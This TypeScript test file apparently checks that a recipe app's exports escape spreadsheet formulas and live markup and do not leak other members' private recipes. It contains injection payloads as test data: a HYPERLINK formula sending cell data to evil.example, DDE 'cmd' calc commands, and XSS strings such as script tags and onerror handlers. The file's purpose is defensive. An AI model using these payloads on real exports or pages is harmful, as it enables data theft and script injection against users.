import { startCountedServer } from "../account-proof/counted-server.ts";
import { type Asked, ask, jsonOf } from "./ask.ts";
import type { Findings } from "./goal.ts";
import { created } from "./recipe-bodies.ts";

const FORMULA = 'HYPERLINK("https://evil.example?"&A1,"x")';
const HEADS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  " =",
  "\u00a0=",
  "\u200b=",
  "\ufeff=",
  "＝",
  "＋",
  "－",
  "＠",
  "\n=",
  "'=",
  '"=',
  ",=",
  ";=",
  "|=",
];
const MARKUP = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  "<!--",
  "]]>",
  "`<svg onload=alert(1)>`",
  "# Heading\n<iframe src=//evil.example>",
  "<a href='data:text/html,x'>x</a>",
];
const CELLS = [
  ...HEADS.map((head) => head + FORMULA),
  ...HEADS.map((head) => `${head}cmd|' /C calc'!A0`),
  ...["=1+1", "-2+3", "+1", "@SUM(A1)", '="a"",b"', "a\r\n=1", 'a","=1', '"\r\n=1,', "=1\0", "=IMPORTXML(1)"],
  ...MARKUP,
];
const FOREIGN = 200;
const SECRET = "xyloquince";

/** G29: no cell of a table is a formula, no file carries live markup, and no list of ids brings what is not one's own. */
export async function proveExports(): Promise<Findings> {
  const server = await startCountedServer({ env: { USAGE_LIMITS: "off" } });
  const failures: string[] = [];
  try {
    const { token } = await server.addMember("premium");
    const other = (await server.addMember("premium")).token;
    const make = async (as: string, body: object): Promise<string> => {
      const sent: Asked = { method: "POST", path: "/api/recipes", body: created(body), token: as };
      return jsonOf<{ id: string }>(await ask(server.url, sent))?.id ?? "";
    };
    const save = (body: object) =>
      ask(server.url, { method: "POST", path: "/api/recipes/export", body, token });
    for (const cell of CELLS) {
      const id = await make(token, everywhere(cell));
      const table = await save({ recipe_ids: [id], format: "csv" });
      const cells = cellsOf(table.text);
      if (table.status !== 200 || cells.length !== 2)
        failures.push(`${JSON.stringify(cell)}: ${cells.length} rows`);
      for (const one of cells.flat()) {
        if (/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(one) && !/^-?\d+$/.test(one))
          failures.push(`a formula: ${JSON.stringify(one)}`);
      }
      for (const format of ["markdown", "jsonld", "json"]) {
        const file = await save({ recipe_ids: [id], format });
        const wrong = wrongFile(format, file.status, file.text, String(file.headers["content-disposition"]));
        if (wrong !== null) failures.push(`${format} of ${JSON.stringify(cell)}: ${wrong}`);
      }
    }
    const ids = await Promise.all(
      Array.from({ length: FOREIGN }, (_, n) =>
        make(other, { title: `${SECRET} ${n}`, is_public: n % 2 === 0 }),
      ),
    );
    for (const format of ["csv", "markdown", "jsonld", "json"]) {
      const { text } = await save({ recipe_ids: ids, format });
      if (/xyloquince (?:\d*[13579])\b/.test(text))
        failures.push(`${format} brings a foreign private recipe`);
      if (text.includes(SECRET)) failures.push(`${format} brings a foreign recipe`);
    }
    return { tries: CELLS.length * 4 + FOREIGN * 4, failures };
  } finally {
    await server.close();
  }
}

function everywhere(text: string): object {
  return {
    title: text,
    description: text,
    notes: text,
    tags: [text],
    yield_text: text,
    ingredients: [{ name: "1 onion", original_text: text, section: text }],
    instructions: [{ instruction: text, section: text }],
  };
}

function wrongFile(format: string, status: number, text: string, disposition: string): string | null {
  if (status !== 200) return `${status}`;
  if (!/^attachment; filename=/.test(disposition) || /[\r\n]/.test(disposition)) return disposition;
  const isData = format !== "markdown";
  if (isData) return jsonOf({ text } as never) === undefined ? "no JSON" : null;
  // A backslash before it, or a sign in its place, makes a text of it.
  return /(?<!\\)<(?:script|img|svg|iframe|a\s)/i.test(text) ||
    /(?<!\\)\]\((?:javascript|https:\/\/evil)/.test(text)
    ? "live markup"
    : null;
}

/** RFC 4180, read by a reader of our own. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = text.startsWith("\ufeff") ? 1 : 0; at < text.length; at += 1) {
    const sign = text[at] as string;
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') {
        cell += sign;
        at += 1;
      } else isQuoted = false;
    } else if (sign === '"' && cell === "") isQuoted = true;
    else if (sign === "," || (sign === "\r" && text[at + 1] === "\n")) {
      row.push(cell);
      cell = "";
      if (sign === "\r") {
        rows.push(row);
        row = [];
        at += 1;
      }
    } else cell += sign;
  }
  return rows;
}
